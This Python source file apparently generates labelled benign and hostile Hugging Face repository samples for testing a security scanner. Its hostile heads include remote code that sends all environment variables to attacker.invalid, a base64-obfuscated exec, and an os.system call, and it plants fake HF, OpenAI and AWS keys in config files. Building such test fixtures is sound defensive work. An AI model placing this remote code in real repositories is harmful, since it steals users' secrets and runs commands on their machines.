"""Hugging Face repository folders: configs, tokenizers, remote code, leaked credentials."""

from __future__ import annotations

import base64
import json
import string
from collections.abc import Iterator
from typing import Any

from modelcustoms.samples import templates
from modelcustoms.samples.items import Item, Plan, folder
from modelcustoms.samples.tensorfmt import safetensors

_MODELING_BENIGN = '''"""Zoo model: a tiny causal LM head over a transformers backbone."""
import torch
from torch import nn
from transformers import PreTrainedModel

from .configuration_zoo import ZooConfig


class ZooForCausalLM(PreTrainedModel):
    config_class = ZooConfig

    def __init__(self, config):
        super().__init__(config)
        self.embed = nn.Embedding(config.vocab_size, config.hidden_size)
        self.lm_head = nn.Linear(config.hidden_size, config.vocab_size, bias=False)

    def forward(self, input_ids, attention_mask=None):
        hidden = self.embed(input_ids)
        return self.lm_head(torch.tanh(hidden))
'''

_CONFIGURATION = """from transformers import PretrainedConfig


class ZooConfig(PretrainedConfig):
    model_type = "zoo"

    def __init__(self, vocab_size=256, hidden_size=16, **kwargs):
        self.vocab_size = vocab_size
        self.hidden_size = hidden_size
        super().__init__(**kwargs)
"""

_HOSTILE_HEADS = {
    "hf.remote-code-os-system": "import os\nos.system('echo pwned')\n",
    "hf.remote-code-exfil": (
        "import os\nimport requests\n\n"
        "requests.post('http://attacker.invalid/collect', json=dict(os.environ), timeout=3)\n"
    ),
    "hf.remote-code-exec-b64": (
        "import base64\n\nexec(base64.b64decode('"
        + base64.b64encode(b"__import__('os').system('echo pwned')").decode()
        + "'))\n"
    ),
}

_AUTO_MAP = {
    "AutoConfig": "configuration_zoo.ZooConfig",
    "AutoModelForCausalLM": "modeling_zoo.ZooForCausalLM",
}


def _config(plan: Plan, remote: bool) -> dict[str, Any]:
    arch = plan.rng.choice(["LlamaForCausalLM", "Qwen2ForCausalLM", "MistralForCausalLM"])
    cfg: dict[str, Any] = {
        "architectures": ["ZooForCausalLM" if remote else arch],
        "model_type": "zoo" if remote else arch.replace("ForCausalLM", "").lower(),
        "hidden_size": 16,
        "intermediate_size": 32,
        "num_attention_heads": 2,
        "num_hidden_layers": 2,
        "vocab_size": 256,
        "torch_dtype": "bfloat16",
        "transformers_version": "4.46.0",
        "bos_token_id": 1,
        "eos_token_id": 2,
    }
    if remote:
        cfg["auto_map"] = _AUTO_MAP
    return cfg


def _tokenizer_json(plan: Plan) -> dict[str, Any]:
    alphabet = string.ascii_letters + string.digits + "Ġ_-"
    vocab = {"<unk>": 0, "<s>": 1, "</s>": 2}
    while len(vocab) < 300:
        tok = "".join(plan.rng.choice(alphabet) for _ in range(plan.rng.randrange(2, 24)))
        vocab.setdefault(tok, len(vocab))
    return {
        "version": "1.0",
        "added_tokens": [],
        "normalizer": None,
        "pre_tokenizer": {"type": "ByteLevel", "add_prefix_space": False},
        "model": {"type": "BPE", "vocab": vocab, "merges": []},
    }


def _repo(
    plan: Plan, *, template: str, remote: str | None = None, extra: dict[str, bytes] | None = None
) -> dict[str, bytes]:
    tok_cfg = {
        "bos_token": "<s>",
        "eos_token": "</s>",
        "model_max_length": 4096,
        "tokenizer_class": "PreTrainedTokenizerFast",
        "chat_template": template,
    }
    weights: dict[str, tuple[str, tuple[int, ...], bytes]] = {
        "model.embed.weight": ("F32", (4, 4), bytes(64))
    }
    files = {
        "config.json": json.dumps(_config(plan, remote is not None), indent=2).encode(),
        "generation_config.json": json.dumps(
            {"bos_token_id": 1, "eos_token_id": 2, "do_sample": True, "temperature": 0.7}
        ).encode(),
        "tokenizer_config.json": json.dumps(tok_cfg, indent=2).encode(),
        "tokenizer.json": json.dumps(_tokenizer_json(plan)).encode(),
        "README.md": b"---\nlicense: apache-2.0\n---\n# zoo model\n\nA tiny test model.\n",
        "model.safetensors": safetensors(weights, {"format": "pt"}),
    }
    if remote is not None:
        files["modeling_zoo.py"] = remote.encode()
        files["configuration_zoo.py"] = _CONFIGURATION.encode()
    files.update(extra or {})
    return files


def _secret(plan: Plan, kind: str) -> str:
    def rnd(chars: str, n: int) -> str:
        return "".join(plan.rng.choice(chars) for _ in range(n))

    al = string.ascii_letters + string.digits
    if kind == "hf":
        return "hf_" + rnd(string.ascii_letters, 34)
    if kind == "openai":
        return "sk-proj-" + rnd(al + "_-", 48) + "T3BlbkFJ" + rnd(al + "_-", 24)
    return "AKIA" + rnd(string.ascii_uppercase + "234567", 16)


def repos(plan: Plan) -> Iterator[Item]:
    """Benign repos (with and without harmless remote code) and hostile ones."""
    names = list(templates.BENIGN)
    for i in range(plan.n(2, 10)):
        tmpl = templates.BENIGN[names[i % len(names)]]
        remote = _MODELING_BENIGN if i % 3 == 1 else None
        tech = "benign.hf-repo-remote-code" if remote else "benign.hf-repo"
        yield folder("repo", _repo(plan, template=tmpl, remote=remote), "benign", tech, "hf-repo")
    ref = "https://huggingface.co/docs/transformers/main/en/custom_models#using-a-model-with-custom-code"
    for tech, head in _HOSTILE_HEADS.items():
        for _ in range(plan.n(1, 2)):
            code = head + "\n" + _MODELING_BENIGN
            yield folder(
                "repo",
                _repo(plan, template=templates.CHATML, remote=code),
                "hostile",
                tech,
                "hf-repo",
                ref,
            )
    for tmpl in [templates.SSTI, templates.BACKDOOR][: plan.n(1, 2)]:
        tech = (
            "hf.tokenizer-template-ssti"
            if tmpl is templates.SSTI
            else "hf.tokenizer-template-backdoor"
        )
        yield folder(
            "repo",
            _repo(plan, template=tmpl),
            "hostile",
            tech,
            "hf-repo",
            templates.SSTI_REF if tmpl is templates.SSTI else templates.BACKDOOR_REF,
        )
    leaks = {
        "secrets.hf-token": ("hf", "config.json"),
        "secrets.openai-key": ("openai", "generation_config.json"),
        "secrets.aws-key": ("aws", "training_config.json"),
    }
    for tech, (kind, where) in list(leaks.items())[: plan.n(1, 3)]:
        files = _repo(plan, template=templates.CHATML)
        body = json.loads(files.get(where, b"{}"))
        if kind == "aws":
            body["s3"] = {
                "aws_access_key_id": _secret(plan, kind),
                "aws_secret_access_key": "".join(
                    plan.rng.choice(string.ascii_letters + "/+") for _ in range(40)
                ),
            }
        else:
            body["api_token" if kind == "hf" else "openai_api_key"] = _secret(plan, kind)
        files[where] = json.dumps(body, indent=2).encode()
        yield folder(
            "repo",
            files,
            "hostile",
            tech,
            "hf-repo",
            "https://docs.github.com/en/code-security/secret-scanning",
        )


FAMILIES = (repos,)
